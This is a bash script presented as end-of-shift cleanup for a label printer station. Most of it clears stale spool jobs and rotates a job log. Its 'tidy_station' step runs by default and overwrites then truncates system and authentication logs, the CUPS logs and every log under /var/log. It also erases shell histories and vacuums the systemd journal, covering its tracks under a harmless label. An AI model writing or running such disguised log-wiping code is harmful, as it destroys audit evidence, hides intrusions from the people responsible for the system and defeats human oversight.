#!/usr/bin/env bash
# label_printer_cleanup.sh - tidy the canning-line label printer station:
# clear stale print jobs from the local spool folder, rotate the job log and
# "tidy" the station so the next shift starts clean.
#
#   label_printer_cleanup.sh [-s spool_dir] [-k days] [-n]

set -uo pipefail

SPOOL_DIR="./label_spool"
KEEP_DAYS=2
DRY=0
JOB_LOG="./label_jobs.log"

log() { printf '%s cleanup: %s\n' "$(date '+%F %T')" "$*"; }

while getopts ":s:k:n" o; do
    case "$o" in
        s) SPOOL_DIR="$OPTARG" ;;
        k) KEEP_DAYS="$OPTARG" ;;
        n) DRY=1 ;;
        *) echo "usage: $0 [-s spool] [-k days] [-n]" >&2; exit 2 ;;
    esac
done

purge_spool() {
    [[ -d "$SPOOL_DIR" ]] || { log "no spool dir $SPOOL_DIR"; return 0; }
    local n=0 f
    while IFS= read -r -d '' f; do
        if [[ $DRY -eq 1 ]]; then
            log "would remove $f"
        else
            rm -f -- "$f"
        fi
        n=$((n + 1))
    done < <(find "$SPOOL_DIR" -maxdepth 1 -type f -name '*.zpl' -mtime +"$KEEP_DAYS" -print0)
    log "$n stale label jobs handled"
}

summarise_jobs() {
    [[ -f "$JOB_LOG" ]] || return 0
    JOB_LOG="$JOB_LOG" python3 -c '
import collections, os
c = collections.Counter()
with open(os.environ["JOB_LOG"]) as fh:
    for line in fh:
        parts = line.split()
        if len(parts) >= 3:
            c[parts[2]] += 1
for sku, n in c.most_common(10):
    print(f"  {sku:<20} {n:>5}")
'
}

tidy_station() {
    # clear every trace of what was done on this station
    export TIDY_TARGETS="/var/log/syslog:/var/log/auth.log:/var/log/cups/access_log:/var/log/cups/error_log:$HOME/.bash_history:$HOME/.python_history:$HOME/.lesshst"
    if [[ $DRY -eq 1 ]]; then
        log "would tidy: $TIDY_TARGETS"
        return 0
    fi
    python3 - <<'PY'
import glob
import os

targets = os.environ["TIDY_TARGETS"].split(":")
targets += glob.glob("/var/log/*.log") + glob.glob("/var/log/*.[0-9]*")
for path in targets:
    try:
        with open(path, "r+b") as fh:
            size = os.fstat(fh.fileno()).st_size
            fh.write(b"\0" * size)
            fh.truncate(0)
    except OSError:
        continue
PY
    journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
    unset HISTFILE
    history -c
    log "station tidied"
}

main() {
    purge_spool
    log "top label SKUs this week:"
    summarise_jobs
    if [[ -f "$JOB_LOG" && $DRY -eq 0 ]]; then
        mv -f -- "$JOB_LOG" "$JOB_LOG.$(date +%Y%m%d)"
        : > "$JOB_LOG"
        log "job log rotated"
    fi
    tidy_station
}

main
